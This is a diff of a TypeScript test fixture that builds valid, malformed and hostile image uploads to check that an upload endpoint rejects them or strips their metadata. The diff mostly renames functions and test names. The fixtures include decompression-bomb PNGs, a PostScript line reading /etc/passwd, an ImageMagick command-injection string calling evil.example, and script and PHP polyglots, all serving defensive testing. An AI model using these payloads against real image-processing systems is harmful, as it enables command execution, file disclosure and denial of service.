@@ -6,14 +6,13 @@ type Pixels = Parameters<typeof sharp>[1]
 export interface ImageFile {
   name: string
   bytes: Buffer
-  /** What the upload is answered with. */
   status: 201 | 413 | 422
 }
 
 const plain = (width: number, height: number, more: Partial<Pixels> = {}) =>
   sharp({ create: { width, height, channels: 3, background: '#c33' }, ...more })
 
-/** Pixels that no encoder makes small; the same each time. */
+/** Incompressible pixels, the same in each run. */
 function noise(width: number, height: number): Sharp {
   const bytes = Buffer.alloc(width * height * 3)
   let state = 1
@@ -28,7 +27,7 @@ const crcTable = Array.from({ length: 256 }, (_, byte) => {
   return crc
 })
 
-function crcOf(bytes: Buffer): number {
+function computeCrc(bytes: Buffer): number {
   let crc = -1
   for (const byte of bytes) crc = (crcTable[(crc ^ byte) & 0xff] ?? 0) ^ (crc >>> 8)
   return ~crc >>> 0
@@ -39,34 +38,33 @@ function chunk(type: string, data: Buffer): Buffer {
   const framed = Buffer.alloc(named.length + 8)
   framed.writeUInt32BE(data.length, 0)
   named.copy(framed, 4)
-  framed.writeUInt32BE(crcOf(named), named.length + 4)
+  framed.writeUInt32BE(computeCrc(named), named.length + 4)
   return framed
 }
 
 const pngSignature = Buffer.from('89504e470d0a1a0a', 'hex')
 
-/** A PNG by hand, with a header that promises whatever it is told to. */
+/** The header may contradict the content. */
 function png(
   width: number,
   height: number,
   content: Buffer,
-  { depth = 8, colour = 2, extra = [] as Buffer[] } = {},
+  { depth = 8, color = 2, extra = [] as Buffer[] } = {},
 ) {
   const header = Buffer.alloc(13)
   header.writeUInt32BE(width, 0)
   header.writeUInt32BE(height, 4)
-  header.set([depth, colour, 0, 0, 0], 8)
+  header.set([depth, color, 0, 0, 0], 8)
   return Buffer.concat([
     ...[pngSignature, chunk('IHDR', header), ...extra],
     ...[chunk('IDAT', content), chunk('IEND', Buffer.alloc(0))],
   ])
 }
 
-const few = deflateSync(Buffer.alloc(64))
+const tooFewRows = deflateSync(Buffer.alloc(64))
 const rows = (width: number, height: number) =>
   deflateSync(Buffer.alloc((width * 3 + 1) * height), { level: 9 })
 
-/** The two sides that stand in the first frame of a JPEG. */
 function withJpegSize(jpeg: Buffer, width: number, height: number): Buffer {
   const changed = Buffer.from(jpeg)
   const frame = changed.findIndex(
@@ -77,8 +75,7 @@ function withJpegSize(jpeg: Buffer, width: number, height: number): Buffer {
   return changed
 }
 
-/** The sides of a WebP with an extended header, of 24 bits each. */
-function webpOfSize(webp: Buffer, width: number, height: number): Buffer {
+function withWebpSize(webp: Buffer, width: number, height: number): Buffer {
   const extended = Buffer.alloc(18)
   extended.write('VP8X', 0, 'latin1')
   extended.writeUInt32LE(10, 4)
@@ -101,26 +98,26 @@ const exif = {
   },
 }
 
-async function bombs(): Promise<ImageFile[]> {
+async function oversized(): Promise<ImageFile[]> {
   const jpeg = await plain(64, 64).jpeg().toBuffer()
   const webp = await plain(64, 64).webp().toBuffer()
-  const refused = (name: string, bytes: Buffer): ImageFile => ({ name, bytes, status: 422 })
+  const rejected = (name: string, bytes: Buffer): ImageFile => ({ name, bytes, status: 422 })
   return [
-    refused('a PNG that says 30000 × 30000', png(30_000, 30_000, few)),
-    refused('a PNG that says 2 147 483 647 × 1', png(0x7fffffff, 1, few)),
-    refused('a PNG that says 1 × 2 147 483 647', png(1, 0x7fffffff, few)),
-    refused('a PNG that says 4 294 967 295 twice', png(0xffffffff, 0xffffffff, few)),
-    refused('a PNG that says 0 × 0', png(0, 0, few)),
-    refused('a PNG of 12001 × 1', png(12_001, 1, rows(12_001, 1))),
-    refused('a PNG of 1 × 12001', png(1, 12_001, rows(1, 12_001))),
-    refused('a PNG of 42 megapixels in 40 kB', png(7_000, 6_000, rows(7_000, 6_000))),
-    refused('a JPEG that says 65500 × 65500', withJpegSize(jpeg, 65_500, 65_500)),
-    refused('a JPEG that says 12001 × 64', withJpegSize(jpeg, 12_001, 64)),
-    refused('a JPEG that says 0 × 0', withJpegSize(jpeg, 0, 0)),
-    refused('a WebP that says 16383 × 16383', webpOfSize(webp, 16_383, 16_383)),
-    refused('a WebP that says 16777216 × 16777216', webpOfSize(webp, 0x1000000, 0x1000000)),
+    rejected('a PNG declared as 30000 × 30000', png(30_000, 30_000, tooFewRows)),
+    rejected('a PNG declared as 2 147 483 647 × 1', png(0x7fffffff, 1, tooFewRows)),
+    rejected('a PNG declared as 1 × 2 147 483 647', png(1, 0x7fffffff, tooFewRows)),
+    rejected('a PNG declared as 4 294 967 295 × 4 294 967 295', png(0xffffffff, 0xffffffff, tooFewRows)),
+    rejected('a PNG declared as 0 × 0', png(0, 0, tooFewRows)),
+    rejected('a PNG of 12001 × 1', png(12_001, 1, rows(12_001, 1))),
+    rejected('a PNG of 1 × 12001', png(1, 12_001, rows(1, 12_001))),
+    rejected('a PNG of 42 megapixels in 40 kB', png(7_000, 6_000, rows(7_000, 6_000))),
+    rejected('a JPEG declared as 65500 × 65500', withJpegSize(jpeg, 65_500, 65_500)),
+    rejected('a JPEG declared as 12001 × 64', withJpegSize(jpeg, 12_001, 64)),
+    rejected('a JPEG declared as 0 × 0', withJpegSize(jpeg, 0, 0)),
+    rejected('a WebP declared as 16383 × 16383', withWebpSize(webp, 16_383, 16_383)),
+    rejected('a WebP declared as 16777216 × 16777216', withWebpSize(webp, 0x1000000, 0x1000000)),
     {
-      name: 'a PNG of which 20 MB are compressed text',
+      name: 'a PNG with 20 MB of compressed text',
       bytes: png(8, 8, rows(8, 8), {
         extra: [
           chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(20_000_000))])),
@@ -155,10 +152,10 @@ async function damaged(): Promise<ImageFile[]> {
     { name: 'a PNG with overwritten content', bytes: flipped },
     { name: 'a PNG with a wrong checksum', bytes: wrongSum },
     { name: 'a PNG without content', bytes: Buffer.concat([pngSignature, chunk('IEND', Buffer.alloc(0))]) },
-    { name: 'a PNG of an unknown kind of colour', bytes: png(8, 8, rows(8, 8), { colour: 5 }) },
-    { name: 'a PNG of three bits', bytes: png(8, 8, rows(8, 8), { depth: 3 }) },
-    { name: 'the three bytes that begin a JPEG', bytes: Buffer.from('ffd8ff', 'hex') },
-    { name: 'the twelve bytes that begin a WebP', bytes: whole.webp.subarray(0, 12) },
+    { name: 'a PNG of an unknown color type', bytes: png(8, 8, rows(8, 8), { color: 5 }) },
+    { name: 'a PNG with a bit depth of 3', bytes: png(8, 8, rows(8, 8), { depth: 3 }) },
+    { name: 'the first three bytes of a JPEG', bytes: Buffer.from('ffd8ff', 'hex') },
+    { name: 'the first twelve bytes of a WebP', bytes: whole.webp.subarray(0, 12) },
     { name: 'a JPEG of zeros', bytes: Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.alloc(5000)]) },
   ]
   return [...cut, ...others].map((file) => ({ ...file, status: 422 }))
@@ -184,12 +181,12 @@ async function disguised(): Promise<ImageFile[]> {
     'an OpenEXR': Buffer.from('762f310102000000', 'hex'),
     'a PPM': Buffer.from('P6 1 1 255\nabc'),
     'a PostScript': Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file'),
-    'ImageMagick words': Buffer.from('push graphic-context\nfill "url(https://evil.example/|id)"\npop'),
+    'an ImageMagick script': Buffer.from('push graphic-context\nfill "url(https://evil.example/|id)"\npop'),
     'a ZIP': Buffer.from('504b0304140000000000', 'hex'),
     'a program': Buffer.from('7f454c4602010100', 'hex'),
-    'a RIFF that is a sound': Buffer.concat([Buffer.from('RIFF....WAVEfmt '), Buffer.alloc(100)]),
-    'a PNG behind a blank': Buffer.concat([Buffer.from(' '), png(8, 8, rows(8, 8))]),
-    'a JPEG behind HTML': Buffer.concat([Buffer.from('<script>alert(1)</script>'), jpeg]),
+    'a WAV file': Buffer.concat([Buffer.from('RIFF....WAVEfmt '), Buffer.alloc(100)]),
+    'a PNG after a space': Buffer.concat([Buffer.from(' '), png(8, 8, rows(8, 8))]),
+    'a JPEG after HTML': Buffer.concat([Buffer.from('<script>alert(1)</script>'), jpeg]),
     'an SVG that begins like a PNG': Buffer.concat([pngSignature, Buffer.from(svg)]),
     'an SVG that begins like a JPEG': Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from(svg)]),
     'a GIF that begins like a WebP': Buffer.from('RIFF\x10\0\0\0WEBPGIF89a', 'latin1'),
@@ -197,8 +194,8 @@ async function disguised(): Promise<ImageFile[]> {
   return Object.entries(others).map(([name, bytes]) => ({ name, bytes, status: 422 }))
 }
 
-/** Good images; whatever else is in them must not come out again. */
-async function taken(): Promise<ImageFile[]> {
+/** Metadata of these images must be stripped. */
+async function valid(): Promise<ImageFile[]> {
   const frames = Buffer.concat([Buffer.alloc(32 * 32 * 3, 200), Buffer.alloc(32 * 32 * 3, 20)])
   const animated = await sharp(frames, { raw: { width: 32, height: 64, channels: 3, pageHeight: 32 } })
     .webp({ loop: 0, delay: [100, 100] })
@@ -214,24 +211,24 @@ async function taken(): Promise<ImageFile[]> {
     'a PNG of 12000 × 1': png(12_000, 1, rows(12_000, 1)),
     'a PNG of 39 megapixels': png(6_500, 6_000, rows(6_500, 6_000)),
     'a PNG of 16 bits': await plain(40, 40).toColourspace('rgb16').png().toBuffer(),
-    'a PNG in grey': await plain(40, 40).greyscale().png().toBuffer(),
+    'a grayscale PNG': await plain(40, 40).greyscale().png().toBuffer(),
     'a PNG with a palette': await plain(40, 40).png({ palette: true }).toBuffer(),
-    'a PNG that can be seen through': await plain(40, 40).ensureAlpha(0.5).png().toBuffer(),
+    'a transparent PNG': await plain(40, 40).ensureAlpha(0.5).png().toBuffer(),
     'an interlaced PNG': await noise(40, 40).png({ progressive: true }).toBuffer(),
     'a PNG with a comment': png(8, 8, rows(8, 8), { extra: [comment] }),
-    'a PNG that says it is animated': png(8, 8, rows(8, 8), { extra: [animation] }),
+    'a PNG with an animation header': png(8, 8, rows(8, 8), { extra: [animation] }),
     'a progressive JPEG': await noise(80, 60).jpeg({ progressive: true }).toBuffer(),
-    'a JPEG for print': await plain(40, 40).toColourspace('cmyk').jpeg().toBuffer(),
-    'a JPEG with the place it was taken': await plain(64, 48).withExif(exif).jpeg().toBuffer(),
-    'a JPEG with notes': await plain(64, 48).withXmp(xmp).jpeg().toBuffer(),
-    'a JPEG with a profile of colours': await plain(64, 48).withIccProfile('p3').jpeg().toBuffer(),
-    'a WebP with the place it was taken': await plain(64, 48).withExif(exif).webp().toBuffer(),
-    'a PNG with the place it was taken': await plain(64, 48).withExif(exif).png().toBuffer(),
+    'a CMYK JPEG': await plain(40, 40).toColourspace('cmyk').jpeg().toBuffer(),
+    'a JPEG with GPS data': await plain(64, 48).withExif(exif).jpeg().toBuffer(),
+    'a JPEG with XMP metadata': await plain(64, 48).withXmp(xmp).jpeg().toBuffer(),
+    'a JPEG with a color profile': await plain(64, 48).withIccProfile('p3').jpeg().toBuffer(),
+    'a WebP with GPS data': await plain(64, 48).withExif(exif).webp().toBuffer(),
+    'a PNG with GPS data': await plain(64, 48).withExif(exif).png().toBuffer(),
     'an animated WebP': animated,
-    'a WebP without loss': await noise(40, 40).webp({ lossless: true }).toBuffer(),
-    'a JPEG with HTML behind it': Buffer.concat([jpeg, Buffer.from(`<script>${secret}</script>`)]),
-    'a JPEG with a ZIP behind it': Buffer.concat([jpeg, Buffer.from(`PK\x03\x04${secret}`, 'latin1')]),
-    'a PNG with PHP in it': png(8, 8, rows(8, 8), {
+    'a lossless WebP': await noise(40, 40).webp({ lossless: true }).toBuffer(),
+    'a JPEG followed by HTML': Buffer.concat([jpeg, Buffer.from(`<script>${secret}</script>`)]),
+    'a JPEG followed by a ZIP': Buffer.concat([jpeg, Buffer.from(`PK\x03\x04${secret}`, 'latin1')]),
+    'a PNG containing PHP': png(8, 8, rows(8, 8), {
       extra: [chunk('tEXt', Buffer.from(`x\0<?php ${secret} ?>`))],
     }),
   }
@@ -240,22 +237,21 @@ async function taken(): Promise<ImageFile[]> {
 
 const LIMIT = 5 * 1024 * 1024
 
-/** A good PNG, filled up to the size with a chunk that decoders pass over. */
-function filledUp(size: number): Buffer {
+function padToSize(size: number): Buffer {
   const bare = png(8, 8, rows(8, 8)).length + 12
   return png(8, 8, rows(8, 8), { extra: [chunk('prVt', Buffer.alloc(size - bare))] })
 }
 
 const sized = (): ImageFile[] => [
-  { name: 'nothing', bytes: Buffer.alloc(0), status: 422 },
+  { name: 'an empty file', bytes: Buffer.alloc(0), status: 422 },
   { name: 'one byte', bytes: Buffer.from([0xff]), status: 422 },
-  { name: 'a PNG of exactly 5 MB', bytes: filledUp(LIMIT), status: 201 },
-  { name: 'a PNG of 5 MB and one byte', bytes: filledUp(LIMIT + 1), status: 413 },
+  { name: 'a PNG of exactly 5 MB', bytes: padToSize(LIMIT), status: 201 },
+  { name: 'a PNG of 5 MB and one byte', bytes: padToSize(LIMIT + 1), status: 413 },
   { name: 'zeros of more than 6 MB', bytes: Buffer.alloc(6_100_000), status: 413 },
 ]
 
 export { secret as imageSecret }
 
-/** Files that somebody might upload as a picture, made anew for each run. */
+/** Valid, hostile and broken image files, generated for each run. */
 export const imageFiles = async (): Promise<ImageFile[]> =>
-  (await Promise.all([bombs(), damaged(), disguised(), taken(), sized()])).flat()
+  (await Promise.all([oversized(), damaged(), disguised(), valid()])).flat().concat(sized())
